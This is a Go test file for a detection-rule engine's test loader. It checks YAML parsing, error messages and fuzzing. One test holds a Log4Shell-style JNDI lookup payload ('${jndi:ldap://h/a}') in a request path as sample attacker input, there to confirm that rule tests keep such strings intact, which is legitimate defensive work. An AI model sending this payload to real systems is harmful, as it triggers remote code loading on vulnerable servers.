package rules_test

import (
	"errors"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/weirdev/weir/event"
	"github.com/weirdev/weir/rules"
)

// someTests are two tests of the rule a, and one of a rule that is not there.
const someTests = `tests:
  - rule: a
    name: it fires
    events: [{at: 0s, every: 1s, repeat: 5, set: {account: ann, auth: failure, status: 401, object: "o{n}"}}]
    expect: [{entity: ann, weight: 50}]
  - rule: a
    name: it does not
    events: [{at: 0s, set: {account: ann}}]
    expect: []
  - rule: elsewhere
    name: it fires
    events: [{at: 0s, set: {device: d1}}]
    expect: [{entity: d1, weight: 50}]
`

func testsOf(t testing.TB, text string) ([]rules.Case, error) {
	t.Helper()
	set, err := loadText(t, map[string]string{"a.yaml": small("a")})
	if err != nil {
		t.Fatal(err)
	}
	return rules.LoadTests(fstest.MapFS{"t.yaml": {Data: []byte(text)}}, set)
}

func TestTestsMayStandApartFromTheirRules(t *testing.T) {
	cases, err := testsOf(t, someTests)
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, c := range cases {
		got = append(got, c.Rule+": "+c.Test.Name)
		if c.File != "t.yaml" || c.Test.Line < 2 || len(c.Test.Events) != 1 {
			t.Errorf("%+v of %+v", c, c.Test)
		}
	}
	if strings.Join(got, ", ") != "a: it fires, a: it does not, elsewhere: it fires" {
		t.Errorf("got %q", got)
	}
}

func TestFilesOfTestsThatAreWrong(t *testing.T) {
	for _, c := range []struct{ name, from, to, want string }{
		{"a key that is not known", "rule: a", "rules: a", `there is no key "rules" here`},
		{"an entity that no event is about", "{entity: ann,", "{entity: bob,", `no event of this test is about the account "bob"`},
		{"one name twice", "it does not", "it fires", "the first is in t.yaml, line 2"},
		{"a rule's file", "tests:\n", "rules:\n", "holds rules and no tests"},
		{"nothing", someTests, "", "holds no tests"},
	} {
		text := strings.Replace(someTests, c.from, c.to, 1)
		var problems *rules.Problems
		if _, err := testsOf(t, text); !errors.As(err, &problems) || !strings.Contains(err.Error(), c.want) || !strings.Contains(err.Error(), "in the tests") {
			t.Errorf("%s: %v, want something with %q", c.name, err, c.want)
		}
	}
	_, err := loadText(t, map[string]string{"a.yaml": small("a"), "t.yaml": someTests})
	if err == nil || !strings.Contains(err.Error(), "t.yaml: holds tests and no rules") {
		t.Errorf("among rules: %v", err)
	}
}

func fuzzTests(t *testing.T, data []byte) {
	t.Helper()
	cases, err := testsOf(t, string(data))
	var problems *rules.Problems
	if err != nil && !errors.As(err, &problems) {
		t.Fatal(err)
	}
	for _, c := range cases {
		c.Test.Expand()
	}
}

// A test may hold what an attacker writes, in every way that YAML writes texts.
func TestATestMayHoldBrackets(t *testing.T) {
	const want = "/?x=${jndi:ldap://h/a}"
	for name, fields := range map[string]string{
		"flow, double quotes": `{account: ann, path: "/?x=${jndi:ldap://h/a}"}`,
		"flow, single quotes": `{account: ann, path: '/?x=${jndi:ldap://h/a}'}`,
		"block, plain":        "\n              account: ann\n              path: /?x=${jndi:ldap://h/a}",
	} {
		text := small("a") + "    tests:\n      - name: an exploit\n        events:\n          - at: 0s\n            set: " + fields + "\n        expect: []\n"
		set, err := loadText(t, map[string]string{"a.yaml": text})
		if err != nil {
			t.Errorf("%s: %v", name, err)
			continue
		}
		if got := set.Rules[0].Tests[0].Expand()[0].Event.Text(event.Path); got != want {
			t.Errorf("%s: path %q", name, got)
		}
	}
}
